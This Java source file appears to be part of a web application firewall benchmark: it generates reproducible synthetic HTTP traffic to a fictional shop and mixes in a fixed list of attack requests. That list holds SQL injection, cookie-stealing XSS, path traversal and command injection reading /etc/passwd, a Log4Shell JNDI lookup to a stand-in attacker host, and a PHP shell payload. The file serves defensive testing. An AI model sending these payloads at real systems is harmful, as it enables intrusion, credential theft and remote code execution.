package dev.portcullis.benchmarks;

import java.io.IOException;
import java.io.Writer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/**
 * Composes the mix of requests that the rules are measured with: what browsers and clients of an interface send to a shop,
 * and a few attacks. The same seed gives the same requests.
 */
public final class RequestMix {
    private static final String BROWSER =
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36";
    private static final String BOUNDARY = "----WebKitFormBoundary7MA4YWxkTrZu0gW";
    private static final String[] ATTACKS = {
        "/products?id=1%27%20or%20%271%27=%271",
        "/products?id=1+union+select+password+from+users--",
        "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/search?q=%22%20onmouseover=%22alert(document.cookie)",
        "/download?file=../../../../etc/passwd",
        "/ping?host=127.0.0.1;cat+/etc/passwd",
        "/tpl?name=%24%7Bjndi:ldap://evil.example/a%7D",
        "/page?x=%3C%3Fphp+system(%24_GET[1]);",
    };

    private final Vocabulary vocabulary;

    private RequestMix(Vocabulary vocabulary) {
        this.vocabulary = vocabulary;
    }

    /** One request: what {@code waf replay} reads. */
    record Request(String kind, String method, String uri, Map<String, String> headers, String body) {
        String json(String id) {
            StringBuilder out = new StringBuilder(512);
            out.append("{\"id\":\"").append(id).append("\",\"class\":\"").append(kind);
            out.append("\",\"method\":\"")
                    .append(method)
                    .append("\",\"uri\":\"")
                    .append(escaped(uri));
            out.append("\",\"version\":\"HTTP/1.1\",\"headers\":[");
            String between = "";
            for (Map.Entry<String, String> header : headers.entrySet()) {
                out.append(between)
                        .append("[\"")
                        .append(escaped(header.getKey()))
                        .append("\",\"");
                out.append(escaped(header.getValue())).append("\"]");
                between = ",";
            }
            byte[] bytes = body.getBytes(StandardCharsets.UTF_8);
            out.append("],\"body_b64\":\"").append(Base64.getEncoder().encodeToString(bytes));
            return out.append("\"}").toString();
        }

        private static String escaped(String text) {
            return text.replace("\\", "\\\\").replace("\"", "\\\"");
        }
    }

    /** Two hundred requests without malice, and attacks among them if asked for. */
    static List<Request> compose(long seed, boolean nonces, boolean attacks) {
        RequestMix mix = new RequestMix(new Vocabulary(seed, nonces));
        List<Request> requests = new ArrayList<>();
        for (int i = 0; i < 20; i++) {
            for (int page = 0; page < 4; page++) {
                requests.add(mix.page());
            }
            requests.add(mix.image());
            requests.add(mix.call());
            requests.add(mix.longQuery());
            requests.add(mix.form());
            requests.add(mix.json(i % 4 == 0 ? "json-20k" : i % 2 == 0 ? "json-2k" : "json-200"));
            requests.add(mix.upload());
            if (attacks && i % 2 == 0) {
                requests.add(mix.attack(i / 2));
            }
        }
        return requests;
    }

    /** Writes a mix to a file: {@code FILE [seed] [nonce copies]}; with copies, that many mixes of fresh values. */
    public static void main(String[] arguments) throws IOException {
        long seed = arguments.length > 1 ? Long.parseLong(arguments[1]) : 1;
        int copies = arguments.length > 2 ? Integer.parseInt(arguments[2]) : 0;
        try (Writer out = Files.newBufferedWriter(Path.of(arguments[0]))) {
            int id = 0;
            for (int copy = 0; copy < Math.max(1, copies); copy++) {
                for (Request request : compose(seed + copy, copies > 0, true)) {
                    out.write(request.json(Integer.toString(++id)));
                    out.write('\n');
                }
            }
        }
    }

    private Map<String, String> headers() {
        Map<String, String> headers = new LinkedHashMap<>();
        headers.put("Host", "shop.example.com");
        headers.put("User-Agent", BROWSER);
        headers.put("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8");
        headers.put("Accept-Language", "en-GB,en;q=0.7");
        headers.put("Accept-Encoding", "gzip, deflate, br");
        headers.put("Connection", "keep-alive");
        return headers;
    }

    private Map<String, String> withCookies() {
        Map<String, String> headers = headers();
        headers.put(
                "Cookie",
                "session=" + vocabulary.token(32) + "; theme=" + vocabulary.term() + "; basket=" + vocabulary.uuid()
                        + "; lang=en; seen=" + vocabulary.number(90_000));
        return headers;
    }

    private Map<String, String> withBody(String type, String body) {
        Map<String, String> headers = withCookies();
        headers.put("Content-Type", type);
        headers.put("Content-Length", Integer.toString(body.getBytes(StandardCharsets.UTF_8).length));
        return headers;
    }

    private Request page() {
        Map<String, String> headers = withCookies();
        headers.put("Referer", "https://shop.example.com/" + vocabulary.term() + "/" + vocabulary.word());
        headers.put("Sec-Fetch-Site", "same-origin");
        String uri = "/" + vocabulary.word() + "/" + vocabulary.term() + "-" + vocabulary.word() + "?page="
                + vocabulary.number(40) + "&sort=" + vocabulary.term();
        return new Request("page", "GET", uri, headers, "");
    }

    private Request image() {
        return new Request("static", "GET", "/assets/img/" + vocabulary.hex(16) + ".webp", withCookies(), "");
    }

    private Request call() {
        Map<String, String> headers = headers();
        headers.put("Accept", "application/json");
        headers.put("Authorization", "Bearer " + vocabulary.token(40) + "." + vocabulary.token(160));
        String uri = "/api/v2/orders/" + vocabulary.uuid() + "?include=" + vocabulary.words(3, ",") + "&since="
                + vocabulary.date();
        return new Request("api", "GET", uri, headers, "");
    }

    private Request longQuery() {
        StringBuilder uri = new StringBuilder("/search?q=").append(vocabulary.words(6, "+"));
        for (int i = 0; i < 24; i++) {
            uri.append('&').append(vocabulary.word()).append("%5B").append(i).append("%5D=");
            uri.append(i % 3 == 0 ? vocabulary.number(1000) : vocabulary.words(2, "%20"));
        }
        return new Request("longquery", "GET", uri.toString(), withCookies(), "");
    }

    private Request form() {
        StringBuilder body = new StringBuilder("csrf=").append(vocabulary.token(43));
        for (int i = 0; i < 12; i++) {
            body.append('&').append(vocabulary.word()).append(i).append('=').append(vocabulary.words(3, "+"));
        }
        body.append("&comment=")
                .append(vocabulary.sentence(40).replace(",", "%2C").replace(' ', '+'));
        body.append("&email=").append(vocabulary.term()).append("%40example.com");
        String text = body.toString();
        return new Request("form", "POST", "/account/edit", withBody("application/x-www-form-urlencoded", text), text);
    }

    private Request json(String kind) {
        int size = kind.equals("json-20k") ? 20_000 : kind.equals("json-2k") ? 2_000 : 200;
        StringBuilder body =
                new StringBuilder("{\"order\":\"").append(vocabulary.uuid()).append("\",\"items\":[");
        String between = "";
        while (body.length() < size) {
            body.append(between).append("{\"sku\":\"").append(vocabulary.term()).append('-');
            body.append(vocabulary.number(9000)).append("\",\"title\":\"").append(vocabulary.words(3, " "));
            body.append("\",\"price\":").append(vocabulary.number(300)).append(".95,\"count\":");
            body.append(vocabulary.number(9)).append(",\"note\":\"").append(vocabulary.sentence(5));
            body.append("\",\"at\":\"").append(vocabulary.date()).append("\",\"gift\":false}");
            between = ",";
        }
        String text = body.append("]}").toString();
        return new Request(kind, "POST", "/api/v2/orders", withBody("application/json", text), text);
    }

    private Request upload() {
        String text = "--" + BOUNDARY + "\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\n"
                + vocabulary.words(4, " ") + "\r\n--" + BOUNDARY
                + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + vocabulary.term()
                + ".png\"\r\nContent-Type: image/png\r\n\r\n" + vocabulary.token(4000) + "\r\n--" + BOUNDARY
                + "--\r\n";
        String type = "multipart/form-data; boundary=" + BOUNDARY;
        return new Request("upload", "POST", "/account/avatar", withBody(type, text), text);
    }

    private Request attack(int number) {
        return new Request("attack", "GET", ATTACKS[number % ATTACKS.length], headers(), "");
    }
}
